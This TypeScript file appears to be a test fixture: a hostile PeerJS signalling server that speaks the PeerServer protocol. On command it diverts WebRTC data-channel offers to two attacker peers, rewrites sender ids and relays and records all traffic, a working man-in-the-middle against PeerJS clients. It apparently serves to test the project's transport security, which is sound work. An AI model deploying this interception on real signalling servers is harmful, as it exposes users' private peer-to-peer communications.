// A hostile PeerJS signalling server for tests: it speaks the protocol of the `peer` npm PeerServer to PeerJS 1.5
// clients (GET {path}{key}/id for an id; a WebSocket on {path}peerjs?key=&id=&token=&version= that answers OPEN,
// ERROR or ID-TAKEN and relays OFFER / ANSWER / CANDIDATE / LEAVE / EXPIRE by `dst`, with `src` set by the server; an
// offer to an id nobody holds waits expireMs, then its sender gets EXPIRE). Honest until told to intercept. For an
// intercepted offer (a chosen pair, every offer to a chosen id, or every offer) it sits in the middle: the offer goes
// to the attacker's own PeerJS peer `front` (node-datachannel), which answers as if it were the target, while its
// other peer `back` dials the target as if it were the offerer (same connection id, label, serialization, metadata);
// the server rewrites `src` so each victim sees only the other victim's id. Each victim's WebRTC connection, and its
// DTLS certificate, is then the attacker's; mitm-relay.ts passes every message across and records it.
// Not a general server: no alive timeout, no peer listing, no TLS; offers that are not 'raw' data connections, or to
// an id not connected right now, are relayed honestly.

import { randomUUID } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import type { DataConnection, Peer, PeerConnectOption } from 'peerjs';
import { WebSocket, WebSocketServer } from 'ws';
import { installNodeWebRtc } from '../../src/cli/node-webrtc';
import { openPeer, parseSignalUrl } from '../../src/swarm/transport';
import { MitmSession, type OfferShape } from './mitm-relay';

/** Which offers the attacker takes over. */
export type Interception =
  /** offers between a and b, either way */
  | { kind: 'pair'; a: string; b: string }
  /** every offer to id */
  | { kind: 'target'; id: string }
  /** every offer */
  | { kind: 'all' };

export interface MitmSignalOptions {
  host: string;
  /** 0 = any free port */
  port: number;
  /** mount path, ending in '/' */
  path: string;
  key: string;
  /** an offer to an absent id is answered with EXPIRE after this long; 500 ms like `flock signal` */
  expireMs: number;
  /** how long an intercepted connection may take to open at both ends before the attacker drops it */
  openTimeoutMs: number;
  intercept: Interception[];
}

export class MitmSignalError extends Error {
  override name = 'MitmSignalError';
}

/** A message a client sent over its WebSocket, after validation. */
interface ClientMsg {
  type: string;
  dst: string | undefined;
  payload: unknown;
}

interface Client {
  id: string;
  token: string;
  socket: WebSocket;
}

/** Where a message from `from` to `dst` about one connection really goes, and whose id it carries as `src`. */
interface Route {
  to: string;
  as: string;
}

const RELAYED = new Set(['OFFER', 'ANSWER', 'CANDIDATE', 'LEAVE', 'EXPIRE']);

export class MitmSignalServer {
  /** Every intercepted connection, in the order the offers came. */
  readonly sessions: MitmSession[] = [];
  /** Counts of what the server relayed honestly and what it diverted. */
  readonly counters = { relayed: 0, diverted: 0, queued: 0, expired: 0 };
  private rules: Interception[];
  private readonly clients = new Map<string, Client>();
  private readonly queues = new Map<string, { since: number; messages: (ClientMsg & { src: string })[] }>();
  private readonly routes = new Map<string, Route>();
  private readonly sockets = new Set<Socket>();
  private readonly expiry: ReturnType<typeof setInterval>;
  /** the attacker's peers; null until start() has connected them */
  private front: Peer | null = null;
  private back: Peer | null = null;

  private constructor(
    private readonly http: Server,
    private readonly wss: WebSocketServer,
    readonly opts: MitmSignalOptions,
    readonly port: number,
  ) {
    this.rules = [...opts.intercept];
    this.expiry = setInterval(() => this.expire(), Math.max(10, opts.expireMs / 5));
  }

  /** ws://host:port/path, for parseSignalUrl. */
  get url(): string {
    return `ws://${this.opts.host}:${this.port}${this.opts.path}`;
  }

  /** The attacker's own peer ids (front answers offerers, back dials targets). */
  get attackerIds(): { front: string; back: string } {
    if (!this.front || !this.back) throw new MitmSignalError('the attacker has not started');
    return { front: this.front.id, back: this.back.id };
  }

  /** Start listening and connect the attacker's two peers to itself. */
  static async start(options: Partial<MitmSignalOptions> = {}): Promise<MitmSignalServer> {
    const opts: MitmSignalOptions = {
      host: '127.0.0.1', port: 0, path: '/', key: 'peerjs', expireMs: 500, openTimeoutMs: 10_000, intercept: [], ...options,
    };
    if (!opts.path.startsWith('/') || !opts.path.endsWith('/')) throw new MitmSignalError(`path must start and end with '/', got "${opts.path}"`);
    installNodeWebRtc();
    const http = createServer();
    const wss = new WebSocketServer({ server: http, path: `${opts.path}peerjs` });
    await new Promise<void>((resolve, reject) => {
      http.once('error', reject);
      http.listen(opts.port, opts.host, () => resolve());
    });
    const addr = http.address() as AddressInfo; // a TCP listen always has an AddressInfo
    const server = new MitmSignalServer(http, wss, opts, addr.port);
    http.on('request', (req: IncomingMessage, res: ServerResponse) => server.onHttp(req, res));
    http.on('connection', (s: Socket) => {
      server.sockets.add(s);
      s.on('close', () => server.sockets.delete(s));
    });
    wss.on('connection', (socket: WebSocket, req: IncomingMessage) => server.onSocket(socket, req));
    await server.startAttacker();
    return server;
  }

  /** Replace the interception rules (an empty list makes the server honest for new offers). */
  intercept(rules: Interception[]): void {
    this.rules = [...rules];
  }

  /** Wait until an intercepted connection matching `pred` exists (polls every 10 ms). */
  async waitForSession(pred: (s: MitmSession) => boolean, timeoutMs = 10_000): Promise<MitmSession> {
    const t0 = performance.now();
    for (;;) {
      const s = this.sessions.find(pred);
      if (s) return s;
      if (performance.now() - t0 > timeoutMs) throw new MitmSignalError(`no intercepted connection matched within ${timeoutMs} ms`);
      await new Promise((r) => setTimeout(r, 10));
    }
  }

  async close(): Promise<void> {
    clearInterval(this.expiry);
    for (const s of this.sessions) s.close('server closing');
    this.front?.destroy();
    this.back?.destroy();
    for (const c of this.clients.values()) c.socket.terminate();
    this.clients.clear();
    await new Promise<void>((r) => this.wss.close(() => r()));
    await new Promise<void>((r) => {
      this.http.close(() => r());
      this.http.closeAllConnections();
      for (const s of this.sockets) s.destroy();
    });
  }

  // -------------------------------------------------------------------------------------------------------------
  // The PeerServer protocol.

  /** GET {path}{key}/id -> a fresh id (text); {path}{key}/peers -> 401 (no listing); {path} -> what this is. */
  private onHttp(req: IncomingMessage, res: ServerResponse): void {
    const { pathname } = new URL(req.url ?? '/', 'http://mitm');
    res.setHeader('Access-Control-Allow-Origin', '*');
    const rest = pathname.startsWith(this.opts.path) ? pathname.slice(this.opts.path.length) : null;
    const [key, method, extra] = rest === null ? [] : rest.split('/');
    if (req.method === 'GET' && rest === '') {
      res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ name: 'mitm-signal (test)' }));
    } else if (req.method === 'GET' && key && method === 'id' && extra === undefined) {
      let id = randomUUID();
      while (this.clients.has(id)) id = randomUUID();
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(id);
    } else if (req.method === 'GET' && key && method === 'peers' && extra === undefined) {
      res.writeHead(401).end();
    } else {
      res.writeHead(404).end();
    }
  }

  /** A client's WebSocket: {path}peerjs?key=&id=&token=&version=. */
  private onSocket(socket: WebSocket, req: IncomingMessage): void {
    socket.on('error', () => {}); // a peer that vanishes mid-write must not take the server down
    const q = new URL(req.url ?? '', 'http://mitm').searchParams;
    const id = q.get('id');
    const token = q.get('token');
    const key = q.get('key');
    const refuse = (type: string, msg: string): void => {
      socket.send(JSON.stringify({ type, payload: { msg } }));
      socket.close();
    };
    if (!id || !token || !key) return refuse('ERROR', 'No id, token, or key supplied to websocket server');
    if (key !== this.opts.key) return refuse('ERROR', 'Invalid key provided');
    const existing = this.clients.get(id);
    if (existing && existing.token !== token) return refuse('ID-TAKEN', 'ID is taken');
    const client: Client = { id, token, socket };
    this.clients.set(id, client);
    if (!existing) socket.send(JSON.stringify({ type: 'OPEN' })); // the stock server re-attaches a known token silently
    socket.on('close', () => {
      if (this.clients.get(id)?.socket === socket) this.clients.delete(id);
    });
    socket.on('message', (data) => {
      const msg = parseClientMsg(String(data));
      if (msg && RELAYED.has(msg.type)) this.transmit(id, msg);
    });
    // offers that waited for this id go out now
    const queued = this.queues.get(id);
    this.queues.delete(id);
    for (const m of queued?.messages ?? []) this.transmit(m.src, m);
  }

  /** Route one message from `from`: along an interception's route, into a new interception, or honestly by dst. */
  private transmit(from: string, msg: ClientMsg): void {
    const cid = connectionIdOf(msg.payload);
    const route = msg.dst !== undefined && cid !== null ? this.routes.get(routeKey(from, msg.dst, cid)) : undefined;
    if (route) {
      this.counters.diverted++;
      this.deliver(route.to, { ...msg, src: route.as, dst: route.to });
      return;
    }
    const shape = msg.type === 'OFFER' && msg.dst !== undefined ? offerShape(msg.payload) : null;
    if (shape && msg.dst !== undefined && this.intercepts(from, msg.dst) && this.clients.has(msg.dst)) {
      this.divert(from, msg.dst, msg, shape);
      return;
    }
    this.relay(from, msg);
  }

  /** The stock server's behaviour: deliver to dst now, or queue (EXPIRE later), or drop LEAVE/EXPIRE to nobody. */
  private relay(from: string, msg: ClientMsg): void {
    const out = { ...msg, src: from };
    if (msg.dst === undefined) {
      if (msg.type === 'LEAVE') this.clients.delete(from);
      return;
    }
    const dst = this.clients.get(msg.dst);
    if (dst) {
      this.counters.relayed++;
      if (!this.deliver(msg.dst, out)) this.deliver(from, { type: 'LEAVE', src: msg.dst, dst: from, payload: undefined });
      return;
    }
    if (msg.type === 'LEAVE' || msg.type === 'EXPIRE') return;
    this.counters.queued++;
    const q = this.queues.get(msg.dst) ?? { since: Date.now(), messages: [] };
    q.messages.push(out);
    this.queues.set(msg.dst, q);
  }

  /** Queues older than expireMs: each sender gets one EXPIRE (src = the absent id) per absent id. */
  private expire(): void {
    const now = Date.now();
    for (const [dst, q] of this.queues) {
      if (now - q.since < this.opts.expireMs) continue;
      this.queues.delete(dst);
      for (const src of new Set(q.messages.map((m) => m.src))) {
        this.counters.expired++;
        this.deliver(src, { type: 'EXPIRE', src: dst, dst: src, payload: undefined });
      }
    }
  }

  /** Send to a connected client; false when it is not there or its socket is not open. */
  private deliver(to: string, msg: ClientMsg & { src: string }): boolean {
    const c = this.clients.get(to);
    if (!c || c.socket.readyState !== WebSocket.OPEN) return false;
    c.socket.send(JSON.stringify(msg));
    return true;
  }

  // -------------------------------------------------------------------------------------------------------------
  // The attack.

  private intercepts(from: string, dst: string): boolean {
    if (!this.front || !this.back) return false;
    const attacker = [this.front.id, this.back.id];
    if (attacker.includes(from) || attacker.includes(dst)) return false;
    return this.rules.some((r) => {
      switch (r.kind) {
        case 'pair':
          return (r.a === from && r.b === dst) || (r.b === from && r.a === dst);
        case 'target':
          return r.id === dst;
        case 'all':
          return true;
        default: {
          const never: never = r;
          throw new MitmSignalError(`unknown interception ${JSON.stringify(never)}`);
        }
      }
    });
  }

  private async startAttacker(): Promise<void> {
    const signal = { ...parseSignalUrl(this.url), key: this.opts.key };
    const open = async (role: string): Promise<Peer> => {
      const r = await openPeer(signal, `mitm-${role}-${randomUUID()}`);
      if (r.kind !== 'open') throw new MitmSignalError(`the attacker's ${role} peer id was taken`);
      return r.peer;
    };
    const front = await open('front');
    // the offer was diverted here with src = the offerer, so conn.peer is the offerer
    front.on('connection', (conn: DataConnection) => {
      const s = this.sessions.find((x) => x.offerer === conn.peer && x.connectionId === conn.connectionId && !x.front);
      if (s) s.attachFront(conn);
      else conn.once('open', () => conn.close()); // PeerJS throws from its candidate handler if closed mid-negotiation
    });
    this.front = front;
    this.back = await open('back');
  }

  /**
   * Take over an offer from `offerer` to `target`. Routes first (candidates follow the offer at once), then the offer
   * to `front` as if from the offerer, then `back` dials the target with the same connection id, label and options.
   */
  private divert(offerer: string, target: string, offer: ClientMsg, shape: OfferShape): void {
    if (!this.front || !this.back) throw new MitmSignalError('the attacker has not started'); // intercepts() said no
    const front = this.front.id;
    const back = this.back.id;
    const cid = shape.connectionId;
    this.routes.set(routeKey(offerer, target, cid), { to: front, as: offerer });
    this.routes.set(routeKey(front, offerer, cid), { to: offerer, as: target });
    this.routes.set(routeKey(target, offerer, cid), { to: back, as: target });
    this.routes.set(routeKey(back, target, cid), { to: target, as: offerer });
    const session = new MitmSession(offerer, target, shape, this.opts.openTimeoutMs);
    this.sessions.push(session);
    this.counters.diverted++;
    this.deliver(front, { ...offer, src: offerer, dst: front });
    const options: PeerConnectOption & { connectionId: string } = {
      connectionId: cid, label: shape.label, serialization: shape.serialization, reliable: shape.reliable, metadata: shape.metadata,
    };
    const conn = this.back.connect(target, options);
    if (!conn) return session.close('the attacker could not dial the target');
    session.attachBack(conn);
  }
}

function routeKey(from: string, dst: string, connectionId: string): string {
  return JSON.stringify([from, dst, connectionId]);
}

function isRecord(v: unknown): v is Record<string, unknown> {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

function parseClientMsg(text: string): ClientMsg | null {
  let v: unknown;
  try {
    v = JSON.parse(text);
  } catch {
    return null;
  }
  if (!isRecord(v) || typeof v.type !== 'string') return null;
  if (v.dst !== undefined && typeof v.dst !== 'string') return null;
  return { type: v.type, dst: v.dst, payload: v.payload };
}

function connectionIdOf(payload: unknown): string | null {
  return isRecord(payload) && typeof payload.connectionId === 'string' ? payload.connectionId : null;
}

/** The options of a PeerJS data-connection offer with 'raw' serialization, or null for anything else. */
function offerShape(payload: unknown): OfferShape | null {
  if (!isRecord(payload) || payload.type !== 'data' || payload.serialization !== 'raw') return null;
  const { connectionId, label, reliable, metadata } = payload;
  if (typeof connectionId !== 'string' || typeof label !== 'string' || typeof reliable !== 'boolean') return null;
  return { connectionId, label, serialization: 'raw', reliable, metadata };
}
